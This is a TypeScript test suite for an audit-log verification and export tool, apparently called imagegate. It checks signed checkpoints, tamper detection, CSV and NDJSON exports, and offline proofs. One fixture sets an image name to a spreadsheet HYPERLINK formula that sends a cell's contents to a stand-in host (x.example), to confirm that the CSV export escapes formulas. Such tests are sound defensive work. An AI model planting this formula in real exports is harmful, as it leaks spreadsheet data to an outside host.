import { generateKeyPairSync } from 'node:crypto'
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import t from 'tap'
import { makeProof, signCheckpoint } from '../../server/audit/chain.ts'
import { derivedTables } from '../../server/audit/derived-rows.ts'
import { start } from '../../server/compose.ts'
import { readConfig } from '../../server/config.ts'
import { sha256 } from '../../server/digest.ts'
import { matches } from '../../server/schemas.ts'
import { checkpointRow, entries } from '../audit/tamper-rows.ts'
import { changed, example, imagegate, releasedPolicies } from './support.ts'

const folder = t.testdir()
const file = join(folder, 'audit.db')
const environment = {
  IMAGEGATE_POLICIES: await releasedPolicies(join(folder, 'policies')),
  IMAGEGATE_DATABASE_URL: `file:${file}`,
  IMAGEGATE_PORT: '0',
  IMAGEGATE_LOG_LEVEL: 'silent',
}
const running = await start(readConfig(environment))
t.teardown(() => running.close())

const formula = '=HYPERLINK("http://x.example/?"&A1,"disk")'
const documents = [
  readFileSync(example('linux/ready.json'), 'utf8'),
  readFileSync(example('linux/several-faults.json'), 'utf8'),
  readFileSync(example('windows-server/ready.json'), 'utf8'),
  changed('linux/ready.json', (document) => {
    document['image'] = { ...document['image'], name: formula }
  }),
  readFileSync(example('unidentified/unreadable-system.json'), 'utf8'),
]
const bodies: string[] = []
for (const body of [...documents, ...documents]) {
  const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body }
  bodies.push(await (await fetch(`${running.url}/v1/evaluations`, init)).text())
}

const keys = generateKeyPairSync('ed25519')
const keyFile = join(folder, 'key.pem')
const publicFile = join(folder, 'public.pem')
const strangerFile = join(folder, 'stranger.pem')
writeFileSync(keyFile, keys.privateKey.export({ format: 'pem', type: 'pkcs8' }))
writeFileSync(publicFile, keys.publicKey.export({ format: 'pem', type: 'spki' }))
writeFileSync(strangerFile, generateKeyPairSync('ed25519').publicKey.export({ format: 'pem', type: 'spki' }))

// Eight of ten verdicts are under checkpoints, four under each, and the first of them is kept outside.
const db = new Database(file)
t.teardown(() => db.close())
const chain = entries(db, 'default')
const checkpoints = [0, 4].map((at) => {
  const links = chain.slice(at, at + 4).map(({ link }) => link)
  return signCheckpoint({ tenant: 'default', from: at + 1, links }, '2026-11-20T09:29:00.000Z', keys.privateKey)
})
for (const row of checkpoints.map(checkpointRow)) {
  const marks = Object.keys(row).map(() => '?')
  db.prepare(`INSERT INTO checkpoints (${Object.keys(row)}) VALUES (${marks})`).run(...Object.values(row))
}
const elsewhere = join(folder, 'elsewhere')
mkdirSync(elsewhere)
writeFileSync(join(elsewhere, 'checkpoints-2026-11.ndjson'), `${JSON.stringify(checkpoints[0])}\n`)

const verify = (...args: string[]) =>
  imagegate(['audit', 'verify', '--public-key', publicFile, ...args], { environment })
const report = (stdout: string) => {
  const value: unknown = JSON.parse(stdout)
  if (!matches('verification', value)) throw new Error(`It does not match its schema: ${stdout}`)
  return value
}

/** A copy of the database in which something was changed, without its triggers. */
async function tampered(sql: string): Promise<string> {
  const copy = join(folder, 'tampered.db')
  await db.backup(copy)
  const changing = new Database(copy)
  const triggers = changing.prepare<[], { name: string }>("SELECT name FROM sqlite_schema WHERE type = 'trigger'").all()
  for (const { name } of triggers) changing.exec(`DROP TRIGGER ${name}`)
  changing.exec(sql)
  changing.close()
  return copy
}

t.test('a record is intact with a checkpoint, and undecided without its key', async (t) => {
  const intact = await verify('--checkpoints', elsewhere)
  t.equal(intact.code, 0, intact.stderr)
  const { result, tenants, source } = report(intact.stdout)
  t.same([result, source], ['intact', 'database'])
  const marks = { outside: { sequence: 4 }, signed: { sequence: 8 }, notCovered: 6, notCoveredSeconds: 60 }
  t.match(tenants, [{ tenant: 'default', entries: 10, verdicts: 10, unsealed: 0, ...marks }])
  t.equal((await verify()).code, 0, 'the checkpoints of the database vouch, too')
  const nobody = await verify('--tenant', 'nobody')
  t.equal(nobody.code, 2)
  t.equal(report(nobody.stdout).result, 'undecided')
  const stranger = await imagegate(['audit', 'verify', '--public-key', strangerFile], { environment })
  t.equal(stranger.code, 1, 'checkpoints of a key that was not given are not believed')
})

t.test('the first record that was changed is named for people and programs', async (t) => {
  const [, faults = ''] = bodies
  const id = String(JSON.parse(faults).id)
  const copy = await tampered(`UPDATE verdicts SET outcome = 'ready' WHERE id = '${id}'`)
  const ran = await verify('--database', copy, '--checkpoints', elsewhere)
  t.equal(ran.code, 1)
  const [first] = report(ran.stdout).problems
  t.match(first, {
    kind: 'changed',
    where: 'verdicts',
    tenant: 'default',
    sequence: 2,
    verdict: id,
    differs: ['outcome'],
  })
  const human = await verify('--database', copy, '--checkpoints', elsewhere, '--format', 'human')
  t.match(human.stdout, /TAMPERED\nOne thing is not as it was recorded\./)
  t.match(human.stdout, 'outcome is "ready"; the verdict says "not_ready".')
})

t.test('an export holds the whole record, verifies, and can be replayed', async (t) => {
  const output = join(folder, 'record.ndjson')
  const ran = await imagegate(['audit', 'export', '--output', output, '--facts', '--signing-key', keyFile], {
    environment,
  })
  t.equal(ran.code, 0, ran.stderr)
  const manifest: unknown = JSON.parse(readFileSync(`${output}.manifest.json`, 'utf8'))
  t.ok(matches('export', manifest))
  t.match(manifest, {
    tenant: 'default',
    query: {},
    verdicts: 10,
    sealed: 10,
    head: { sequence: 10 },
    checkpoint: { sequence: 8 },
  })
  const text = readFileSync(output, 'utf8')
  t.equal(sha256(text), JSON.parse(ran.stdout).file.digest)
  const lines = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line))
  t.same(
    lines.map(({ verdict }) => verdict),
    bodies.map((body) => JSON.parse(body)),
  )
  t.same(
    lines.map(({ entry }) => entry),
    chain,
  )
  const intact = await verify(output, '--checkpoints', elsewhere)
  t.equal(intact.code, 0, intact.stderr)

  const impact = await imagegate([
    'policy',
    'impact',
    'linux/1.0.0',
    '--export',
    output,
    '--policies',
    environment.IMAGEGATE_POLICIES,
  ])
  t.equal(impact.code, 0, impact.stderr)
  t.match(JSON.parse(impact.stdout).counts, { replayed: 6, changed: 0, notReplayed: 0 })

  const changes: readonly (readonly [string, (text: string) => string])[] = [
    ['a byte', (all) => all.replace('"outcome":"not_ready"', '"outcome":"ready"')],
    ['a line is gone', (all) => all.split('\n').toSpliced(2, 1).join('\n')],
    [
      'two lines changed places',
      (all) => [...all.split('\n').slice(0, 2).reverse(), ...all.split('\n').slice(2)].join('\n'),
    ],
    ['the end is gone', (all) => all.split('\n').slice(0, 7).join('\n')],
  ]
  for (const [what, change] of changes) {
    writeFileSync(output, change(text))
    t.equal((await verify(output)).code, 1, what)
    const alone = await verify(output, '--manifest', join(folder, 'none.json'))
    t.equal(alone.code, 3, 'a manifest that is named must be there')
  }
  writeFileSync(output, changes[0]?.[1](text) ?? '')
  const [first] = report((await verify(output)).stdout).problems
  t.match(first, { where: 'export', sequence: 2, differs: ['verdict'] })
  writeFileSync(output, text)
  writeFileSync(`${output}.manifest.json`, JSON.stringify({ ...JSON.parse(JSON.stringify(manifest)), verdicts: 9 }))
  t.match(report((await verify(output)).stdout).problems[0], {
    where: 'manifest',
    message: /Its signature is not valid/,
  })
})

t.test('a filtered export verifies line by line and is undecided without a signed manifest', async (t) => {
  const output = join(folder, 'part.ndjson')
  const args = ['audit', 'export', '--output', output, '--family', 'linux', '--from', '2020-01-01']
  t.equal((await imagegate(args, { environment })).code, 0)
  const { query, verdicts } = JSON.parse(readFileSync(`${output}.manifest.json`, 'utf8'))
  t.same(query, { family: 'linux', from: '2020-01-01T00:00:00Z' })
  t.equal(verdicts, 6)
  t.equal((await verify(output)).code, 2)
  t.equal((await imagegate([...args, '--signing-key', keyFile], { environment })).code, 0)
  t.equal((await verify(output)).code, 0)
})

t.test('CSV quotes what needs it, and no spreadsheet takes a name for a formula', async (t) => {
  const output = join(folder, 'all.csv')
  const ran = await imagegate(['audit', 'export', '--output', output, '--format', 'csv', '--report', 'human'], {
    environment,
  })
  t.match(ran.stdout, /^10 verdicts, 10 of them with their entry in the chain: .*all\.csv/)
  const lines = readFileSync(output, 'utf8').split('\r\n')
  t.equal(lines.length, 12)
  t.match(lines[0], /^sequence,id,recordedAt,outcome,family,/)
  t.ok(lines[4]?.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""disk"")"`), 'the fourth')
  t.notOk(lines.some((line) => /(^|,)"?=/.test(line)))
  t.equal(
    (await imagegate(['audit', 'export', '--output', output, '--format', 'csv', '--facts'], { environment })).code,
    3,
  )
})

t.test('CSV is verified as a file against its signed manifest, and the report says that rows are not', async (t) => {
  const output = join(folder, 'signed.csv')
  const args = ['audit', 'export', '--output', output, '--format', 'csv']
  t.equal((await imagegate([...args, '--signing-key', keyFile], { environment })).code, 0)
  const intact = await verify(output, '--checkpoints', elsewhere)
  t.equal(intact.code, 0, intact.stdout)
  t.match(report(intact.stdout), { format: 'csv', result: 'intact', total: 0, tenants: [] })
  const human = await verify(output, '--format', 'human')
  t.match(human.stdout.replace(/\s+/g, ' '), /^INTACT .* rows were not verified one by one\./)

  const text = readFileSync(output, 'utf8')
  writeFileSync(output, text.replace(',not_ready,', ',ready,'))
  const changed = await verify(output)
  t.equal(changed.code, 1)
  t.match(report(changed.stdout), { total: 1, problems: [{ where: 'export', differs: ['bytes', 'digest'] }] })
  writeFileSync(output, text)
  const manifestFile = `${output}.manifest.json`
  const signed = readFileSync(manifestFile, 'utf8')
  writeFileSync(manifestFile, signed.replace('"verdicts":10', '"verdicts":11'))
  t.match(report((await verify(output)).stdout), { total: 1, problems: [{ where: 'manifest' }] })
  rmSync(manifestFile)
  const alone = await verify(output)
  t.equal(alone.code, 2, 'nothing says what the file was')
  t.match(report(alone.stdout), { format: 'csv', total: 0 })
  t.equal((await imagegate(args, { environment })).code, 0)
  t.equal((await verify(output)).code, 2, 'the manifest is not signed')
})

t.test('an export from a server has the same verdicts, newest first', async (t) => {
  const output = join(folder, 'server.ndjson')
  const ran = await imagegate(['audit', 'export', '--output', output, '--server', running.url, '--facts'])
  t.equal(ran.code, 0, ran.stderr)
  const lines = readFileSync(output, 'utf8').trimEnd().split('\n')
  t.same(
    lines.map((line) => JSON.parse(line).verdict),
    bodies.map((body) => JSON.parse(body)).toReversed(),
  )
  t.ok(lines.every((line) => 'facts' in JSON.parse(line)))
})

t.test('an export that cannot be finished leaves the file as it was, and nothing beside it', async (t) => {
  const output = join(folder, 'kept.ndjson')
  writeFileSync(output, 'as it was')
  const ran = await imagegate(['audit', 'export', '--output', output, '--from', 'yesterday'], { environment })
  t.equal(ran.code, 3)
  t.equal(readFileSync(output, 'utf8'), 'as it was')
  t.notOk(existsSync(`${output}.manifest.json`))
  t.same(
    readdirSync(folder).filter((name) => name.endsWith('.new')),
    [],
  )
})

t.test('a proof is verified offline, for its verdict and no other', async (t) => {
  const [entry] = chain
  const [checkpoint] = checkpoints
  if (entry === undefined || checkpoint === undefined) throw new Error('There is no chain.')
  const proofFile = join(folder, 'proof.json')
  const verdictFile = join(folder, 'verdict.json')
  const proof = makeProof(
    entry,
    chain.slice(0, 4).map(({ link }) => link),
    checkpoint,
  )
  writeFileSync(proofFile, JSON.stringify(proof, undefined, 2))
  writeFileSync(verdictFile, JSON.stringify(JSON.parse(bodies[0] ?? ''), undefined, 2))
  t.equal((await verify('--proof', proofFile, '--verdict', verdictFile, '--checkpoints', elsewhere)).code, 0)
  writeFileSync(verdictFile, bodies[1] ?? '')
  t.equal((await verify('--proof', proofFile, '--verdict', verdictFile)).code, 1)
  writeFileSync(proofFile, JSON.stringify({ ...proof, entry: chain[1] }))
  t.equal((await verify('--proof', proofFile)).code, 1)
  t.equal((await verify('--proof', proofFile, '--database', file)).code, 3, 'one thing at a time')
})

t.test('every table that names a verdict is compared with it, or known not to be', (t) => {
  const names = db
    .prepare<[], { name: string }>(
      "SELECT DISTINCT s.name FROM sqlite_schema s, pragma_table_info(s.name) c WHERE s.type = 'table' AND c.name = 'verdict_id'",
    )
    .all()
    .map(({ name }) => name)
  // Keys expire; what a candidate would have said is derived from facts and policy, and answers nobody; a read is
  // of a verdict and no part of one.
  const known = ['chain', 'unsealed', 'idempotency_keys', 'shadow_evaluations', 'shadow_differences', 'audit_reads']
  t.same(
    names.filter((name) => !known.includes(name)).sort(),
    derivedTables('sqlite')
      .map(({ table }) => table)
      .sort(),
  )
  t.end()
})
